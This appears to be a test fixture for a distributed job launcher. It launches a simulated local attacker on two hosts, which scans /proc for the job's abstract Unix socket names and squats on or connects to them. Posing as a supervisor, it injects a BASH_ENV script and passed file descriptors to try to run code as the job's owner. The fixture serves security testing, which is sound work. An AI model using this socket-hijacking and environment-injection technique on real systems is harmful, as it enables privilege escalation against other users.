"""An attacker with another account on the hosts, who tries to run programs as the job's owner."""

from __future__ import annotations

import contextlib
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from tests.harness.worlds import end_tree
from tests.rig.conftest import Rig

HOSTS = ("server1", "server2")
OTHER_USER = 4242  # needs no entry in /etc/passwd

# On each host: looks for names of sockets wherever everyone may look, tells them to the other
# host's, takes them, and answers whoever connects as a supervisor does; connects to those that are
# there, as a rank does.
PROGRAM = """
import array, os, re, select, socket, struct, sys
folder, evil, user = sys.argv[1:]
here = os.open(folder, os.O_DIRECTORY)
os.setgroups([]), os.setgid(int(user)), os.setuid(int(user))
header, poll, taken = struct.Struct("!ciI"), select.poll(), {}

def frame(kind, rank=-1, payload=b""):
    return header.pack(kind, rank, len(payload)) + payload

def note(file, line):
    fd = os.open(file, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o666, dir_fd=here)
    os.write(fd, line + b"\\n")
    os.close(fd)

def look():
    found = set()
    files = ["/proc/net/unix", *(f"/proc/{pid}/cmdline" for pid in os.listdir("/proc"))]
    for path in files:
        try:
            with open(path, "rb") as file:
                found |= set(re.findall(rb"hvdrun-[0-9a-f]{32}", file.read()))
        except OSError:
            pass
    return found

def told():
    try:
        fd = os.open("names", os.O_RDONLY, dir_fd=here)
    except OSError:
        return set()
    with open(fd, "rb") as file:
        return set(file.read().split())

def take(name):
    sock = socket.socket(socket.AF_UNIX)
    try:
        sock.bind(b"\\0" + name)
    except OSError:
        sock.connect(b"\\0" + name)
        words = frame(b"R", 0, b"/tmp") + frame(b"X", 0, b"code 99 1")
        try:
            sock.sendmsg([words], [(1, socket.SCM_RIGHTS, array.array("i", [2, 2]))])
        except OSError:
            pass
        note("connected", name)
        return sock
    sock.listen(1024)
    poll.register(sock, select.POLLIN)
    note("bound", name)
    return sock

print("ready", flush=True)
heard = []
while True:
    for name in look() - told():
        note("names", name)
    for name in told() - taken.keys():
        try:
            taken[name] = take(name)
        except OSError:
            pass
    by_number = {sock.fileno(): sock for sock in taken.values()}
    for fd, _ in poll.poll(1):
        sock, _ = by_number[fd].accept()
        heard.append(sock)
        variables = b"BASH_ENV=" + evil.encode() + b"\\0HOME=/tmp"
        stdin = array.array("i", [os.open("/dev/null", os.O_RDONLY)])
        try:
            sock.sendmsg([frame(b"G", -1, variables)], [(1, socket.SCM_RIGHTS, stdin)])
        except OSError:
            pass
"""


@dataclass(frozen=True)
class Attack:
    """How far the attacker got."""

    folder: Path

    def _lines(self, name: str) -> set[str]:
        path = self.folder / name
        return set(path.read_text().split()) if path.exists() else set()

    @property
    def tried(self) -> set[str]:
        """Names of sockets that were found on a host while the job ran."""
        return self._lines("names")

    @property
    def ran_as(self) -> set[str]:
        """The users as whom the attacker ran a program."""
        return self._lines("marker")


@contextlib.contextmanager
def attack(rig: Rig) -> Iterator[Attack]:
    """While somebody tries it on server1 and server2."""
    folder = Path(tempfile.mkdtemp(prefix="attack-", dir=rig.share))
    folder.chmod(0o1777)
    evil = folder / "evil"
    evil.write_text(f"id -u >> {folder}/marker\n")
    program: list[str | Path] = [sys.executable, "-c", PROGRAM, folder, evil, str(OTHER_USER)]
    processes = []
    try:
        for host in HOSTS:
            process = subprocess.Popen(rig.inside(host, *program), stdout=subprocess.PIPE)
            processes.append(process)
            assert process.stdout
            assert process.stdout.readline() == b"ready\n"
        yield Attack(folder)
        assert [process.poll() for process in processes] == [None, None]
    finally:
        for process in processes:
            end_tree(process)
            assert process.stdout
            process.stdout.close()
